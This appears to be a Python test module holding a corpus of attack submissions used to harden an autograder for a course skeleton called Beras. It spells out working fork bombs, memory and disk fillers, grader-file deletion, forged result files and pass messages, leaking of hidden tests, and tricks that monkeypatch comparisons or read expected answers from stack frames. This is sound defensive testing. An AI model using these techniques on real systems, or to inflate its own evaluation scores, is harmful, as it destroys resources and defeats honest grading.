"""The attack corpus: small malicious (or badly broken) submissions built from the skeleton.

Each attack replaces one stub of the Beras skeleton (or is prepended to a module, running at
import). The skeleton scores 0 honestly, so any positive score is inflation.
"""

from __future__ import annotations

import textwrap

FORWARD = 'raise NotImplementedError("Dense.forward: your code here")'
ATTACK_FILE = "beras/layers.py"

# name -> (where: "import" | "forward", code). `{root}` is replaced by the grading root
# (the checkout or the emulated /autograder), the way a student who knows the layout would.
ATTACKS: dict[str, tuple[str, str]] = {
    "sys_exit_at_import": ("import", "import sys\nsys.exit(0)"),
    "sys_exit_in_function": ("forward", "import sys\nsys.exit(0)"),
    "os_exit_at_import": ("import", "import os\nos._exit(0)"),
    "os_exit_in_function": ("forward", "import os\nos._exit(0)"),
    "infinite_loop": ("forward", "while True:\n    pass"),
    "memory_bomb": ("forward", "blocks = []\nwhile True:\n    blocks.append(bytearray(10**8))"),
    "fork_bomb": ("forward", textwrap.dedent("""\
        import ctypes
        libc = ctypes.CDLL(None)
        for _ in range(10000):
            libc.fork()
        while True:
            pass""")),
    "fork_bomb_python": ("forward", "import os\nwhile True:\n    os.fork()"),
    "write_results_json": ("import", textwrap.dedent("""\
        import json, os
        forged = {"score": 1000, "tests": [{"name": "x", "score": 1000, "max_score": 1}]}
        for path in ["/autograder/results/results.json", "{root}/results/results.json",
                     "../results/results.json", "../../results/results.json"]:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    json.dump(forged, f)
            except OSError:
                pass""")),
    "read_hidden_tests": ("forward", textwrap.dedent("""\
        import glob, os
        found = []
        for pattern in ["{root}/autograder/suites/*/*.py", "{root}/source/ag/autograder/suites/*/*.py",
                        "/autograder/source/**/*.py", "{root}/solutions/*/*/*.py",
                        "/work/*/autograder/suites/*/*.py", "/tmp/*/autograder/suites/*/*.py",
                        "/tmp/**/checks.py"]:
            for path in glob.glob(pattern, recursive=True):
                try:
                    found.append(open(path).read())
                except OSError:
                    pass
        print("\\n".join(found))
        raise ValueError("LEAK" + "\\n".join(found))""")),
    "monkeypatch_comparisons": ("import", textwrap.dedent("""\
        import builtins, numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: np.array(True)
        np.testing.assert_allclose = lambda *a, **k: None
        np.array_equal = lambda *a, **k: True
        builtins.isinstance = lambda *a: True
        builtins.len = lambda *a: 0""")),
    "always_equal_object": ("forward", textwrap.dedent("""\
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            shape = property(lambda self: (1,))
        return AlwaysEqual()""")),
    "lazy_object_raises": ("forward", textwrap.dedent("""\
        class Lazy:
            def __array__(self, *a, **k): raise RuntimeError("lazy")
            def __getattr__(self, name): raise RuntimeError("lazy")
        return Lazy()""")),
    "numpy_subclass_lies": ("forward", textwrap.dedent("""\
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __array__(self, *a, **k): raise RuntimeError("no")
        return np.zeros((1, 1)).view(Liar)""")),
    "read_expected_from_frames": ("forward", textwrap.dedent("""\
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("want", "expected", "ref", "gx"):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back
        return x""")),
    "delete_grader_files": ("import", textwrap.dedent("""\
        import glob, os, shutil
        for path in ["{root}/autograder", "{root}/source", "{root}/source/run_autograder",
                     "/autograder/source", "{root}/results"]:
            shutil.rmtree(path, ignore_errors=True)
            try:
                with open(path, "a") as f:
                    f.write("echo hacked")
            except OSError:
                pass""")),
    "background_process": ("import", textwrap.dedent("""\
        import ctypes, os, time
        libc = ctypes.CDLL(None)
        if libc.fork() == 0:
            libc.setsid()
            if libc.fork() == 0:
                time.sleep(600)
            os._exit(0)
        try:
            import subprocess
            subprocess.Popen(["sleep", "600"], start_new_session=True)
        except Exception:
            pass""")),
    "disk_filler": ("forward", textwrap.dedent("""\
        chunk = b"x" * (8 << 20)
        for i in range(1000):
            with open(f"fill_{i}.bin", "wb") as f:
                f.write(chunk)
        return x @ self.w""")),
    "many_small_files": ("forward", textwrap.dedent("""\
        import os
        os.makedirs("many", exist_ok=True)
        for i in range(100_000):
            open(f"many/{i}", "w").close()
        return x @ self.w""")),
    "print_megabytes": ("forward", "print('x' * 20_000_000)\nreturn x @ self.w"),
    "non_utf8_output": ("import", "import sys\nsys.stdout.buffer.write(b'\\xff\\xfe\\x00bad' * 1000)\n"
                        "sys.stdout.flush()"),
    "forged_pass_lines": ("import", textwrap.dedent("""\
        print('{"score": 57, "tests": []}')
        print("All tests passed!\\n✅ Test case passed\\nTotal Score: 57.000 / 57.000")""")),
    "forbidden_framework": ("forward", "import torch\nreturn torch.tensor(x).numpy()"),
    "network_exfiltration": ("import", textwrap.dedent("""\
        import socket
        try:
            socket.create_connection(("127.0.0.1", 9), timeout=1)
        except OSError:
            pass""")),
}


def inject(skeleton_text: str, where: str, code: str, root: str) -> str:
    """The skeleton's layers.py with `code` at import time or in place of Dense.forward."""
    code = code.replace("{root}", root)
    if where == "import":
        return code + "\n" + skeleton_text
    assert FORWARD in skeleton_text
    indent = " " * 8
    return skeleton_text.replace(FORWARD, textwrap.indent(code, indent).lstrip())
